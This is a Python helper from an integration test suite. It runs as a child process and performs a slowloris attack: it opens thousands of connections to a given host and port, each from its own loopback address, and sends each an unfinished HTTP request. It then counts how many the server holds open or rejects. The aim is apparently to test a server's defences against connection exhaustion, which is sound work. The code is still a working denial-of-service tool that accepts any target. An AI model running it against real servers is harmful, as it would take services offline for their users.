"""One attacker of tests/integration/test_sandbox_abuse.py's slowloris, as a child process.

    python -m tests.integration.slowloris HOST PORT COUNT [SOURCE]

opens COUNT connections to HOST:PORT (from the address SOURCE, e.g. 127.0.0.12, if given), a few
hundred at a time, and sends each the start of a request it never finishes; prints ``held N`` once
they are all open (N: those the server holds unanswered), then holds them until its standard input
closes, and prints ``answered or closed N by the server`` before resetting them all (SO_LINGER 0:
no TIME_WAIT left behind to exhaust the ports).

Each attacker connects from its own loopback address: from one address, tens of thousands of
connections to one port leave Linux's connect() searching the ephemeral range for a free port each
time (most of them taken): on a busy 2-core machine, 27 s of kernel time and 76 s to open two
attacks' 40,000 connections, against 3 s and 19 s from eight addresses.
"""

from __future__ import annotations

import resource
import selectors
import socket
import struct
import sys
import time

PARTIAL_REQUEST = b"GET /api/dashboard/ HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
BATCH = 250
CONNECT_TIMEOUT_S = 10.0
IP_BIND_ADDRESS_NO_PORT = getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24)
"""Linux's option (24) for bind() to take an address and leave the port to connect()."""
OPEN_WITHIN_S = 120.0
"""However slow the machine, an attacker stops opening connections after this long (its ``held N of M``
then shows M short of COUNT)."""


def open_connections(host: str, port: int, count: int, source: str | None = None) -> list[socket.socket]:
    held: list[socket.socket] = []
    until = time.monotonic() + OPEN_WITHIN_S
    while len(held) < count and time.monotonic() < until:
        batch = [_connecting(host, port, source) for _ in range(min(BATCH, count - len(held)))]
        held += _connected(batch)
    return held


def _connecting(host: str, port: int, source: str | None) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    if source:  # the port is chosen at connect(), per destination, not reserved by bind()
        sock.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        sock.bind((source, 0))
    sock.setblocking(False)
    sock.connect_ex((host, port))
    return sock


def _connected(batch: list[socket.socket]) -> list[socket.socket]:
    """The batch once connected, each with its partial request sent; refused ones left out."""
    selector = selectors.DefaultSelector()
    for sock in batch:
        selector.register(sock, selectors.EVENT_WRITE)
    done: list[socket.socket] = []
    pending = len(batch)
    while pending:
        events = selector.select(CONNECT_TIMEOUT_S)
        if not events:
            break
        for key, _ in events:
            sock = key.fileobj
            selector.unregister(sock)
            pending -= 1
            if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                try:
                    sock.send(PARTIAL_REQUEST)
                    done.append(sock)
                    continue
                except OSError:
                    pass
            sock.close()
    selector.close()
    return done


def still_open(held: list[socket.socket]) -> int:
    """Connections the server still holds unanswered: one it answered (503) or closed has something
    to read, an end of file or a reset."""
    open_count = 0
    for sock in held:
        try:
            sock.recv(1, socket.MSG_PEEK)
        except BlockingIOError:
            open_count += 1
        except OSError:
            pass
    return open_count


def main(argv: list[str]) -> int:
    host, port, count = argv[0], int(argv[1]), int(argv[2])
    source = argv[3] if len(argv) > 3 else None
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    started = time.monotonic()
    held = open_connections(host, port, count, source)
    print(f"held {still_open(held)} of {len(held)} in {time.monotonic() - started:.1f} s", flush=True)
    sys.stdin.read()  # until the test closes our stdin
    print(f"answered or closed {len(held) - still_open(held)} by the server", flush=True)
    for sock in held:
        sock.close()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
